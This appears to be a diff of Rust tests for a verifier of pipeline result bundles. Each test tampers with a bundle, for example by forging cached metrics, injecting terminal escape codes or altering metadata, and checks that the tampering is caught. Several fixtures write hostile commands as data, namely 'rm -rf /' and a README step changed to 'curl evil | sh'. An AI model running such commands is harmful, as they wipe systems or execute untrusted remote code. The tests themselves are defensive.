@@ -3,7 +3,7 @@
 use std::path::Path;
 
 use flow::content::{Content, Tree};
-use flow::digest::{Digest, Use};
+use flow::digest::Use;
 use serde_json::{Value, json};
 use sha2::Digest as _;
 
@@ -125,20 +125,25 @@ fn an_edited_table_falls_by_its_digest_and_with_all_digests_at_the_second_rung()
     assert_eq!(word, "fails");
     assert!(found.contains("rows.csv` is not what"), "{found}");
 
-    // Now the file, the listing of its folder, the record and where they lie all tell the same tale.
-    let record = record_of(&reader, "table");
-    let outputs: Value = serde_json::from_str(&reader.read(&record)).expect("JSON");
-    let tree: Digest = outputs["outputs"]["report"]["digest"]
+    // Now the author forged it at home: the file, the listing of its folder, the record and all pages tell the same tale.
+    let object = |digest: &str| {
+        let (top, rest) = digest.split_at(2);
+        let path = space.path(&format!("cache/objects-v1/{top}/{rest}"));
+        fs_err::create_dir_all(path.parent().expect("a folder")).expect("made");
+        path
+    };
+    let key = space.records()["table"]["key"]
         .as_str()
         .expect("hex")
-        .parse()
-        .expect("a digest");
-    let mut listing =
-        Tree::parse(&reader.read(&format!("bundle/trees/{tree}"))).expect("a listing");
-    let (was, is) = (
-        Use::File.digest(old.as_bytes()),
-        Use::File.digest(new.as_bytes()),
-    );
+        .to_owned();
+    let record = format!("cache/records-v1/{}/{}.json", &key[..2], &key[2..]);
+    let outputs: Value = serde_json::from_str(&space.read(&record)).expect("JSON");
+    let tree = outputs["outputs"]["report"]["digest"]
+        .as_str()
+        .expect("hex");
+    let listing = fs_err::read_to_string(object(tree)).expect("a listing");
+    let mut listing = Tree::parse(&listing).expect("a listing");
+    let is = Use::File.digest(new.as_bytes());
     for entry in listing
         .entries
         .iter_mut()
@@ -148,22 +153,15 @@ fn an_edited_table_falls_by_its_digest_and_with_all_digests_at_the_second_rung()
         (content.digest, content.bytes) = (is, new.len() as u64);
     }
     let forged: Content = listing.content();
-    fs_err::remove_file(reader.path(&format!("bundle/trees/{tree}"))).expect("removed");
-    let text = listing.listing();
-    reader.write(&format!("bundle/trees/{}", forged.digest), &text);
-    edit_json(&reader, &record, |record| {
+    fs_err::write(object(&is.to_string()), &new).expect("written");
+    fs_err::write(object(&forged.digest.to_string()), listing.listing()).expect("written");
+    edit_json(&space, &record, |record| {
         record["outputs"]["report"] = json!(forged);
     });
-    edit_json(&reader, "bundle/bundle.json", |bundle| {
-        let objects = bundle["objects"].as_object_mut().expect("a map");
-        let mut place = objects.remove(&was.to_string()).expect("the file");
-        place["bytes"] = new.len().into();
-        objects.insert(is.to_string(), place);
-        objects.remove(&tree.to_string());
-        let place = json!({ "path": format!("trees/{}", forged.digest), "bytes": text.len() });
-        objects.insert(forged.digest.to_string(), place);
-    });
-    seal(&reader.path("bundle"));
+    fs_err::remove_file(space.path("cache/records-v1/index")).expect("removed");
+    fs_err::remove_dir_all(space.path("out")).expect("removed");
+    export(&space, &[]).exits(0);
+    let reader = carried(&space);
     let found = rungs(&reader, &[]);
     assert_eq!(found[&1].0, "holds", "{found:?}");
     assert_eq!(found[&2].0, "fails", "{found:?}");
@@ -176,17 +174,17 @@ fn an_edited_table_falls_by_its_digest_and_with_all_digests_at_the_second_rung()
     assert_eq!(found[&3].0, "holds", "{found:?}");
 }
 
-/// Changes a number in the author's own cache and lets everything that follows be made from it.
-fn forge(space: &Space) {
+/// Gives an output of a record in the author's own cache other bytes; what follows is made from them.
+pub(crate) fn replace(space: &Space, stage: &str, output: &str, edit: impl Fn(&str) -> String) {
     let path = files_below(&space.path("cache/records-v1"))
         .into_iter()
         .filter(|path| path.extension().is_some_and(|ending| ending == "json"))
         .find(|path| {
             fs_err::read_to_string(path)
                 .expect("a record")
-                .contains("\"stage\":\"score[seed=1]\"")
+                .contains(&format!("\"stage\":\"{stage}\""))
         })
-        .expect("the record of a score");
+        .expect("the record of the stage");
     let mut record: Value =
         serde_json::from_str(&fs_err::read_to_string(&path).expect("read")).expect("JSON");
     let object = |digest: &str| {
@@ -196,29 +194,35 @@ fn forge(space: &Space) {
             &digest[2..]
         ))
     };
-    let old = record["outputs"]["metrics"]["digest"]
+    let old = record["outputs"][output]["digest"]
         .as_str()
         .expect("hex")
         .to_owned();
-    let rows = fs_err::read_to_string(object(&old)).expect("rows");
-    let forged: String = rows
-        .lines()
-        .map(|line| {
-            let mut row: Value = serde_json::from_str(line).expect("a row");
-            if row["metric"] == "f1" && row.get("class").is_none_or(Value::is_null) {
-                row["value"] = json!(99.5);
-            }
-            format!("{row}\n")
-        })
-        .collect();
-    assert_ne!(rows, forged);
+    let text = fs_err::read_to_string(object(&old)).expect("text");
+    let forged = edit(&text);
+    assert_ne!(text, forged);
     let new = Use::File.digest(forged.as_bytes()).to_string();
     let to = object(&new);
     fs_err::create_dir_all(to.parent().expect("a folder")).expect("made");
     fs_err::write(&to, &forged).expect("written");
-    record["outputs"]["metrics"] = json!({ "form": "file", "digest": new, "bytes": forged.len() });
+    record["outputs"][output] = json!({ "form": "file", "digest": new, "bytes": forged.len() });
     fs_err::write(&path, record.to_string()).expect("written");
     fs_err::remove_file(space.path("cache/records-v1/index")).expect("removed");
+}
+
+/// Changes a number in the author's own cache and lets everything that follows be made from it.
+fn forge(space: &Space) {
+    replace(space, "score[seed=1]", "metrics", |rows| {
+        rows.lines()
+            .map(|line| {
+                let mut row: Value = serde_json::from_str(line).expect("a row");
+                if row["metric"] == "f1" && row.get("class").is_none_or(Value::is_null) {
+                    row["value"] = json!(99.5);
+                }
+                format!("{row}\n")
+            })
+            .collect()
+    });
 }
 
 #[test]
@@ -452,6 +456,142 @@ const HARMS: &[Harm] = &[
         });
         seal(&space.path("bundle"));
     }),
+    (
+        "a note that clears the screen",
+        "is not text that can be shown",
+        |space| {
+            edit_json(space, &record_of(space, "files"), |record| {
+                record["notes"]["licence"] = "\u{1b}[2J".into();
+            });
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "surroundings that move the cursor",
+        "is not text that can be shown",
+        |space| {
+            edit_json(space, &record_of(space, "lines"), |record| {
+                record["environment"] = json!({ "x": "\u{1b}[1A" });
+            });
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "a moment that is none",
+        "`not a date` is no moment",
+        |space| {
+            edit_json(space, &record_of(space, "lines"), |record| {
+                record["finished"] = "not a date".into();
+            });
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "terms that were dropped",
+        "has other notes than what it comes from",
+        |space| {
+            edit_json(space, "bundle/bundle.json", |bundle| {
+                for entry in bundle["stages"].as_array_mut().expect("a list") {
+                    // Of a report they stand in the manifest, too.
+                    let is_of_report = entry["stage"]["kind"] == "report";
+                    for input in entry["stage"]["inputs"].as_array_mut().expect("a list") {
+                        for item in input["items"].as_array_mut().expect("a list") {
+                            if !is_of_report {
+                                item.as_object_mut().expect("a map").remove("notes");
+                            }
+                        }
+                    }
+                }
+            });
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "terms of another download",
+        "the note `licence` of `files` is not what its key says",
+        |space| {
+            edit_json(space, &record_of(space, "files"), |record| {
+                record["notes"]["licence"] = "CC0".into();
+            });
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "a script among the files",
+        "nothing lies there in a bundle",
+        |space| {
+            space.write("bundle/pipeline/run.sh", "rm -rf /\n");
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "numbers of another stage",
+        "has the bytes of something else",
+        |space| {
+            let vocabulary = space.read("bundle/pipeline/vocab.txt");
+            space.write("bundle/pipeline/data/test.txt", vocabulary);
+            seal(&space.path("bundle"));
+            edit_json(space, "bundle/bundle.json", |bundle| {
+                let sources = bundle["sources"].as_array().expect("a list");
+                let of = |path: &str| {
+                    let found = sources.iter().find(|source| source["path"] == path);
+                    found.expect("a source")["content"]["digest"]
+                        .as_str()
+                        .expect("hex")
+                        .to_owned()
+                };
+                let (test, vocabulary) = (of("data/test.txt"), of("vocab.txt"));
+                let objects = bundle["objects"].as_object_mut().expect("a map");
+                let _ = (objects.remove(&test), vocabulary);
+            });
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "a page that says more",
+        "`README.md` is not what follows from the records",
+        |space| {
+            let page = space.read("bundle/README.md");
+            space.write(
+                "bundle/README.md",
+                page.replace("pipeline verify .", "curl evil | sh"),
+            );
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "metadata of other people",
+        "`ro-crate-metadata.json` is not what follows",
+        |space| {
+            let text = space.read("bundle/ro-crate-metadata.json");
+            space.write(
+                "bundle/ro-crate-metadata.json",
+                text.replace("Zebediah", "Zachary"),
+            );
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "another pipeline than was run",
+        "has another `lines` than the records",
+        |space| {
+            let text = space.read("bundle/pipeline/p.yaml");
+            space.write("bundle/pipeline/p.yaml", text.replace("wc -l", "wc -c"));
+            seal(&space.path("bundle"));
+        },
+    ),
+    (
+        "a pipeline that reads elsewhere",
+        "is no pipeline that stands alone",
+        |space| {
+            let text = space.read("bundle/pipeline/p.yaml");
+            space.write(
+                "bundle/pipeline/p.yaml",
+                format!("extends: /dev/zero\n{text}"),
+            );
+            seal(&space.path("bundle"));
+        },
+    ),
     ("a field nobody knows", "does not decode", |space| {
         edit_json(space, "bundle/bundle.json", |bundle| {
             bundle["run"] = "rm -rf /".into();
